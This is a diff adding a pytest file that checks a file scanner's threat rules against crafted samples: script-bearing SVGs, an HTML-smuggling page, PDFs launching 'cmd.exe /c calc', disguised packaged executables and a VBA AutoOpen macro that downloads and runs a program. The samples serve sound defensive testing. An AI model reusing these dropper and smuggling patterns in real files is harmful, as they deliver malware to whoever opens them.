@@ -1,0 +1,145 @@
+"""What the rules find beside the test virus and disguised programs, what they note, and what they leave alone."""
+
+import struct
+from pathlib import Path
+
+import pytest
+
+from tests.threats.compounds import compound, packaged
+from tests.threats.packing import scanned, threat_in, zipped
+from tests.threats.test_disguised_programs import PE
+from tests.threats.wrappings import docx, docx_with_package, pdf_launch, pdf_script, rtf_object
+
+SHORTCUT = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
+BASE64_PROGRAM = b"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" * 2
+SMUGGLING = (
+    b"<html><body><script>var a = atob('" + BASE64_PROGRAM + b"'); URL.createObjectURL(new Blob([a]));</script></body></html>"
+)
+
+
+def svg(inside: bytes, before: bytes = b"") -> bytes:
+    return before + b'<svg xmlns="http://www.w3.org/2000/svg">' + inside + b"</svg>"
+
+
+def vba_stream(source: bytes) -> bytes:
+    """Answer a stream with a macro's source, packed without a single repetition."""
+    source = b"Attribute VB_Name\r\n" + source
+    packed = b""
+    for at in range(0, len(source), 3000):
+        chunk = b"".join(b"\0" + source[index : index + 8] for index in range(at, min(at + 3000, len(source)), 8))
+        packed += struct.pack("<H", 0xB000 | (len(chunk) - 1)) + chunk
+    return b"performance cache" + b"\x01" + packed
+
+
+def with_macro(source: bytes) -> bytes:
+    project = compound({"VBA/_VBA_PROJECT": b"\xcc\x61", "VBA/Module1": vba_stream(source)})
+    return docx(project, "word/vbaProject.bin")
+
+
+DROPPER = b"""Sub AutoOpen()
+Set x = CreateObject("MSXML2.XMLHTTP")
+x.Open "GET", "http://example.org/a", False
+CreateObject("WScript.Shell").Run "a.exe"
+End Sub
+"""
+
+
+@pytest.mark.parametrize(
+    ("data", "threat"),
+    [
+        pytest.param(svg(b"<script>alert(1)</script>"), "Svg.Script", id="svg, script"),
+        pytest.param(svg(b"<SCRIPT >1</SCRIPT>"), "Svg.Script", id="svg, capitals"),
+        pytest.param(svg(b'<g onload="x()"/>'), "Svg.Script", id="svg, handler"),
+        pytest.param(svg(b'<a href=" javascript:x()"/>'), "Svg.Script", id="svg, address"),
+        pytest.param(
+            b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>1</s:script></s:svg>', "Svg.Script", id="svg, prefixes"
+        ),
+        pytest.param(
+            svg(b"<script/>", b"\xef\xbb\xbf<?xml version='1.0'?>\n<!-- a --><!DOCTYPE svg [<!ENTITY a 'b'>]>"),
+            "Svg.Script",
+            id="svg, prolog",
+        ),
+        pytest.param(svg(b"<script/>", b"<!--" + b"x" * 100_000 + b"-->"), "Svg.Script", id="svg, behind a long comment"),
+        pytest.param(svg(b"<script/>", b"<!-- <html> -->"), "Svg.Script", id="svg, behind a page in a comment"),
+        pytest.param(zipped({"a.svg": svg(b"<script/>")}), "Svg.Script", id="svg in zip"),
+        pytest.param(SMUGGLING, "Script.Smuggled-Program", id="page that carries a program"),
+        pytest.param(
+            pdf_script("this.exportDataObject({cName: 'a', nLaunch: 2});"),
+            "Pdf.Launches-Attachment",
+            id="pdf that starts its attachment",
+        ),
+        pytest.param(pdf_launch("cmd.exe /c calc"), "Pdf.Launches-Program", id="pdf that starts a command"),
+        pytest.param(pdf_launch("setup.EXE", "/Win"), "Pdf.Launches-Program", id="pdf that starts a program of Windows"),
+        pytest.param(docx_with_package(PE, b"invoice.pdf.exe"), "Package.Program", id="packaged program"),
+        pytest.param(docx_with_package(b"x=1", b"a.js"), "Package.Program", id="packaged script"),
+        pytest.param(docx_with_package(PE, b"invoice.txt"), "Package.Program", id="packaged program under another name"),
+        pytest.param(docx_with_package(PE, b"invoice"), "Package.Program", id="packaged program without an extension"),
+        pytest.param(rtf_object(b"x", name=b"a.hta"), "Package.Program", id="packaged program in RTF"),
+        pytest.param(packaged(b"x", b"a.lnk"), "Package.Program", id="packaged shortcut"),
+        pytest.param(zipped({"letter.pdf": SHORTCUT}), "Disguised-Program.Shortcut", id="shortcut under the name of a document"),
+        pytest.param(with_macro(DROPPER), "Macro.Fetches-And-Starts", id="macro that fetches and starts"),
+    ],
+)
+def test_what_acts_by_itself_is_a_threat(data: bytes, threat: str) -> None:
+    assert threat_in(data) == threat
+
+
+@pytest.mark.parametrize(
+    ("data", "flags"),
+    [
+        pytest.param(with_macro(b"Sub Sum()\nEnd Sub\n"), ["macro"], id="macro"),
+        pytest.param(
+            with_macro(b"Private Sub Document_Open()\nMsgBox 1\nEnd Sub\n"),
+            ["macro", "macro.autorun"],
+            id="macro that runs by itself",
+        ),
+        pytest.param(
+            with_macro(b"' " + b"x" * 9000 + b"\nSub Workbook_Open()\nEnd Sub\n"),
+            ["macro", "macro.autorun"],
+            id="macro in several chunks",
+        ),
+        pytest.param(
+            docx(compound({"VBA/_VBA_PROJECT": b"\xcc\x61"}), "word/vbaProject.bin"), ["macro"], id="macro without source"
+        ),
+        pytest.param(compound({"Workbook": struct.pack("<HHLBB", 0x85, 6, 0, 0, 1)}), ["macro.sheet"], id="sheet of macros"),
+        pytest.param(docx_with_package(b"text", b"a.txt"), ["package"], id="packaged text"),
+        pytest.param(b"<html><script>1</script></html>", ["script.html"], id="page with a script"),
+        pytest.param(pdf_script("app.alert(1)"), ["script.pdf"], id="pdf with a script"),
+        pytest.param(pdf_launch("other.pdf"), ["launch.pdf"], id="pdf that opens another"),
+    ],
+)
+def test_what_may_be_honest_is_noted(data: bytes, flags: list[str]) -> None:
+    answer = scanned(data)
+    assert (answer["threat"], answer["complete"], answer["flags"]) == (None, True, flags)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pytest.param(svg(b"<title>on load = never</title><desc>a script: none</desc>"), id="svg that speaks of scripts"),
+        pytest.param(b"A text about script elements and javascript: in SVG", id="text about scripts"),
+        pytest.param(b"Sub AutoOpen() is run by Word; so is MSXML2.XMLHTTP with WScript.Shell", id="text about macros"),
+        pytest.param(docx(b"<w:t>cmd.exe /c</w:t>", "word/footer.xml"), id="document that speaks of commands"),
+        pytest.param(b"<html><a href='a.exe'>program</a></html>", id="page with a link to a program"),
+    ],
+)
+def test_words_alone_are_nothing(data: bytes) -> None:
+    answer = scanned(data)
+    assert (answer["threat"], answer["complete"], answer["flags"]) == (None, True, [])
+
+
+def test_every_rule_says_what_it_is_called_and_what_becomes_of_it() -> None:
+    from sluice.threats.rulebook import compiled  # noqa: PLC0415  (loads the library)
+
+    rules = list(compiled())
+    assert rules
+    for rule in rules:
+        assert dict(rule.metadata)["name"], rule.identifier
+        assert list(rule.tags) in (["threat"], ["flag"]), rule.identifier
+
+
+def test_no_rule_is_a_test_virus_itself() -> None:
+    import sluice.threats  # noqa: PLC0415  (for its place alone)
+
+    for path in (Path(sluice.threats.__file__).parent / "rules").iterdir():
+        assert threat_in(path.read_bytes(), path.name) is None
